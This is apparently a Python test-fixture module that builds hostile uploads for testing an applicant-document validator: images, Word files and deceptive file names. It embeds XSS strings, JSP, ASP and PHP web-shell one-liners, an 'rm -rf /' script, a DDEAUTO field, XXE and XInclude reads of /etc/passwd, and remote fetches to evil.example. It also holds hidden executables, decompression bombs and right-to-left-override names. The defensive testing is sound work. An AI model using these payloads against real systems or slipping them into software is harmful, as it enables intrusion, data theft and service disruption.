"""Crafty pictures, Word documents and names."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.applicants.documents import corpus_files as parts

DDE = parts.paragraph(
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\x "y"</w:instrText></w:r>'
)
ACTING = {
    "a picture that acts": b"<img src=x onerror=alert(1)>",
    "a body that acts": b"<body onload=alert(1)>",
    "a frame that acts": b"<details open ontoggle=alert(1)>",
    "a server's page": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>',
    "an ASP page": b'<%eval request("x")%>',
}
FOREIGN = {
    "a RAR archive": b"Rar!\x1a\x07\x00" + bytes(99),
    "a 7z archive": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(99),
    "a compound file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "a shell script": b"\n#!/bin/sh\nrm -rf /\n",
    "a Java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(99),
    "an RTF document": b"{\\rtf1\\ansi{\\object\\objocx}}",
    "a shortcut": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(99),
}


def notes(body: bytes) -> bytes:
    """Return something dressed as the notes that Samsung's cameras write behind a photo."""
    return body + b"SEFH" + struct.pack("<II", 106, 0) + struct.pack("<I", 12) + b"SEFT"


def pictures() -> Iterator[tuple[str, str, bytes]]:
    """Yield pictures with other things inside, and those that take too much memory."""
    jpeg = parts.picture()
    for what, body in {**ACTING, **FOREIGN}.items():
        yield f"{what} in a JPEG's remark", "photo.jpg", parts.jpeg_with(0xFE, body)
        yield f"{what} in a PNG's chunk", "photo.png", parts.png_with(parts.chunk(b"prVt", body))
        yield f"{what} as a camera's notes", "photo.jpg", jpeg + notes(body)
        yield f"{what} behind the pixels", "photo.png", png_with_data(body)
        yield (
            f"{what} in a packed remark",
            "photo.png",
            parts.png_with(parts.chunk(b"zTXt", b"Comment\0\0" + zlib.compress(body))),
        )
    yield "a program behind the pixels", "photo.png", png_with_data(b"MZ\x90\0\x03\0\0\0" + bytes(5000))
    yield "pixels that never end", "photo.png", png_of(64, 48, 2, 8, parts.packed_zeros(900_000_000))
    yield "half see-through, 49 million pixels", "photo.png", blank_png(7000, 7000, 4, 8)
    yield "wide gray, 98 million pixels", "photo.png", blank_png(9900, 9900, 0, 16)
    yield "wide see-through, 24 million pixels", "photo.png", blank_png(4900, 4900, 6, 16)
    yield "colors, 200 million pixels", "photo.png", blank_png(20_000, 10_000, 2, 8)
    for what, body in (("three scans", parted(9400)), ("three scans that are kept", parted(7000))):
        yield what, "photo.jpg", body
    blank = io.BytesIO()
    Image.new("RGB", (4890, 4890)).save(blank, "JPEG", progressive=True)
    yield "twelve large pictures", "photo.jpg", blank.getvalue() * 12
    large = io.BytesIO()
    Image.new("L", (9400, 9400)).save(large, "JPEG", quality=10)
    yield "six of 88 million pixels", "photo.jpg", large.getvalue() * 6
    yield "a remark cut short", "photo.jpg", jpeg[:2] + b"\xff\xfe\x00\x01" + jpeg[2:]
    yield "a head over a web page", "photo.png", b"\x89PNG\r\n\x1a\n<svg xmlns='http://www.w3.org/2000/svg'/>"
    yield "a drawing", "photo.jpg", b"\xff\xd8\xff<svg onload=alert(1)>"
    yield (
        "a picture of pixels from PHP",
        "photo.png",
        png_of(30, 1, 2, 8, zlib.compress(b"\0" + b"<?php system($_GET['c']);?>".ljust(90, b" "), 0)),
    )


def parted(side: int) -> bytes:
    """Return a JPEG that says it is large, each of whose colors has a scan of its own, of almost nothing."""
    good = parts.picture(subsampling=0)
    size, scan = good.index(b"\xff\xc0") + 5, good.index(b"\xff\xda")
    scans = b"".join(b"\xff\xda\0\x08\x01" + bytes([n, 0, 0, 63, 0]) + bytes(40) for n in (1, 2, 3))
    return good[:size] + struct.pack(">HH", side, side) + good[size + 4 : scan] + scans + b"\xff\xd9"


def png_of(width: int, height: int, color: int, depth: int, data: bytes) -> bytes:
    """Return a PNG with given packed pixels."""
    header = parts.chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + parts.chunk(b"IDAT", data) + parts.chunk(b"IEND", b"")


def blank_png(width: int, height: int, color: int, depth: int) -> bytes:
    """Return a whole PNG of one color that is small as a file."""
    bands = {0: 1, 2: 3, 4: 2, 6: 4}[color]
    row = 1 + width * bands * depth // 8
    return png_of(width, height, color, depth, zlib.compress(bytes(row * height), 9))


def png_with_data(body: bytes) -> bytes:
    """Return a PNG with one more chunk of pixels, which no viewer reads."""
    good = parts.picture("PNG")
    end = good.rindex(b"IEND") - 4
    return good[:end] + parts.chunk(b"IDAT", body) + good[end:]


def documents() -> Iterator[tuple[str, bytes]]:
    """Yield Word documents whose text, links and parts are elsewhere or say something else."""
    for ending in ("ttf", "otf", "odttf", "sigs"):
        yield f"its text by the name of a font ({ending})", by_another_name(f"word/fonts/a.{ending}")
    lettered = by_another_name("word/fonts/a.ttf", "; charset=utf-8")
    yield "its text by the name of a font and its letters", lettered
    yield "its text by the name of printer settings", by_another_name("word/printerSettings1.bin")
    relations = "word/_rels/document.xml.rels"
    for target in ("//evil.example/share/x", "%5c%5cevil%5cshare%5cx", "///evil/x", "/%2fevil/x"):
        body = parts.relations(("hyperlink", target, True))
        yield f"a link to {target}", parts.docx({relations: body})
    for field in ('HYPERLINK "//evil.example/share/x"', 'HYPERLINK "%5c%5cevil%5cx"'):
        inside = f"<w:r><w:instrText>{field}</w:instrText></w:r>"
        yield f"field {field}", parts.docx({"word/document.xml": parts.paragraph(inside)})
    yield from documents_that_draw()


def documents_that_draw() -> Iterator[tuple[str, bytes]]:
    """Yield Word documents whose drawings fetch or run, or whose parts are called something else."""
    vml = "<w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'>{}</v:shape></w:pict>".format
    for what, inside in (
        ("a picture elsewhere", "<v:imagedata src='https://evil.example/x.png'/>"),
        ("a fill elsewhere", "<v:fill src='\\\\evil\\x.png'/>"),
        ("a link to a script", "<v:rect href='javascript:alert(1)'/>"),
        ("a link to a share", "<v:rect href='file://evil/x'/>"),
    ):
        yield f"an old drawing with {what}", parts.docx({"word/document.xml": parts.paragraph(vml(inside))})
    include = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>"
    yield "a file included by XML", parts.docx({"word/document.xml": parts.paragraph(include)})
    for what, inside in (
        ("a style sheet elsewhere", "<style>@import url(https://evil.example/x.css);</style>"),
        ("a style elsewhere", "<rect style='fill:url(https://evil.example/x#a)'/>"),
        ("a fill elsewhere", "<rect fill='url(https://evil.example/x#a)'/>"),
        ("a link that changes", "<a><set attributeName='href' to='javascript:alert(1)'/></a>"),
        ("a web page", "<iframe src='https://evil.example/'/>"),
        ("another drawing elsewhere", "<feImage href='https://evil.example/x'/>"),
    ):
        yield f"a drawing with {what}", parts.docx({"word/media/a.svg": f"<svg>{inside}</svg>"})
    add_in = "<w:x xmlns:w='x'><w:reference store='\\\\evil\\s' storeType='FileSystem'/></w:x>"
    yield "an add-in from a share", parts.docx({"word/webextensions/webextension1.xml": add_in})
    yield (
        "macros in capitals",
        parts.docx(
            {
                "[Content_Types].xml": parts.TYPES.replace(
                    "</Types>",
                    "<Default Extension='png' ContentType='application/vnd.ms-office.VBAPROJECT'/></Types>",
                )
            }
        ),
    )
    yield from documents_with_more()


def documents_with_more() -> Iterator[tuple[str, bytes]]:
    """Yield Word documents with something in, behind or between their parts."""
    yield from (
        ("a program in the head of a part", extra(b"MZ\x90\0\x03\0\0\0" + bytes(3000))),
        ("a remark of a part", remarked()),
        ("a program behind a part's last bit", padded(b"MZ\x90\0\x03\0\0\0" + bytes(3000))),
        ("a part packed into nothing", parts.docx({"word/a.xml": ""})),
        (
            "a locked document",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + bytes(4000),
        ),
        ("a lot of empty folders", parts.docx({f"word/{n}/": b"" for n in range(1600)})),
        ("a name with a turn of direction", parts.docx({"word/\u202elmx.xml": "<a/>"})),
        (
            "a web page by the name of a picture",
            parts.docx({"word/media/a.png": b"\x89PNG\r\n\x1a\n<html><script>"}),
        ),
        (
            "a program behind a picture",
            parts.docx({"word/media/a.png": parts.picture("PNG") + b"MZ\x90\0\x03\0\0\0" + bytes(5000)}),
        ),
        (
            "a zip behind a picture",
            parts.docx({"word/media/a.png": parts.picture("PNG") + parts.zipped({"evil.exe": "MZ"})}),
        ),
        (
            "a program by the name of an old picture",
            parts.docx({"word/media/a.bmp": b"BM" + bytes(12) + b"MZ\x90\0\x03\0\0\0" + bytes(5000)}),
        ),
        (
            "an entity in its settings",
            parts.docx(
                {"word/settings.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/">]><a>&x;</a>'}
            ),
        ),
        (
            "a sheet in a chart",
            parts.docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": parts.zipped({"a": "b"})}),
        ),
    )


def by_another_name(name: str, more: str = "") -> bytes:
    """Return a document whose types and relations say that its text is a part of another ending."""
    types = parts.TYPES.replace(
        "</Types>", f'<Override PartName="/{name}" ContentType="{parts.MAIN}{more}"/></Types>'
    )
    start = parts.relations(("officeDocument", name, False))
    return parts.docx({"[Content_Types].xml": types, "_rels/.rels": start, name: DDE})


def rewritten(change: "object") -> bytes:
    """Return a document, each of whose parts is changed before it is written."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(parts.docx())) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for part in source.infolist():
            info = zipfile.ZipInfo(part.filename)
            info.compress_type = zipfile.ZIP_DEFLATED
            change(info)  # type: ignore[operator]
            archive.writestr(info, source.read(part))
    return target.getvalue()


def extra(body: bytes) -> bytes:
    """Return a document with something in the field for other systems of each part's head."""

    def change(info: zipfile.ZipInfo) -> None:
        info.extra = struct.pack("<HH", 0xCAFE, len(body)) + body

    return rewritten(change)


def remarked() -> bytes:
    """Return a document with a remark on each part."""

    def change(info: zipfile.ZipInfo) -> None:
        info.comment = b"MZ\x90\0\x03\0\0\0" + bytes(2000)

    return rewritten(change)


def padded(body: bytes) -> bytes:
    """Return a document with something behind the last bit of its only packed part's content."""
    name, text = "word/a.xml", b"<a>" + b"text " * 400 + b"</a>"
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packing.compress(text) + packing.flush() + body
    good = parts.docx()
    at = good.index(b"PK\x01\x02")
    numbers = (zlib.crc32(text), len(data), len(text))
    local = (
        struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, *numbers, len(name), 0)
        + name.encode()
        + data
    )
    central = (
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, *numbers, len(name), 0, 0, 0, 0, 0, at)
        + name.encode()
    )
    end = bytearray(good[good.rindex(b"PK\x05\x06") :])
    table = good[at : good.rindex(b"PK\x05\x06")] + central
    count = struct.unpack("<H", end[8:10])[0] + 1
    end[8:20] = struct.pack("<HHII", count, count, len(table), at + len(local))
    return good[:at] + local + table + bytes(end)


def names() -> Iterator[tuple[str, str, bytes]]:
    """Yield good files with names that deceive."""
    good = parts.pdf()
    for name in (
        "cv.exe\u202e.pdf",
        "cv.exe .pdf",
        "cv.exe          .pdf",
        "cv.exe;.pdf",
        "cv.exe%.pdf",
        "cv.html\u200b.pdf",
        "cv.ex\u200be.pdf",
        "cv.dll.pdf",
        "cv.pif.pdf",
        "cv.wsf.pdf",
        "cv.apk.pdf",
        "cv.xhtml.pdf",
        "cv.mht.pdf",
        "cv.iso.pdf",
        "cv.phar.pdf",
        "cv.pdf\u202eexe",
        "cv.pdf\0.exe",
        "cv.pdf::$DATA",
        "cv.pdf.",
        "cvpdf",
        ".htaccess",
    ):
        yield f"named {name!r}", name, good


def everything() -> Iterator[tuple[str, str, bytes]]:
    """Yield every one as (what, name, bytes)."""
    yield from pictures()
    for what, body in documents():
        yield what, "cv.docx", body
    yield from names()
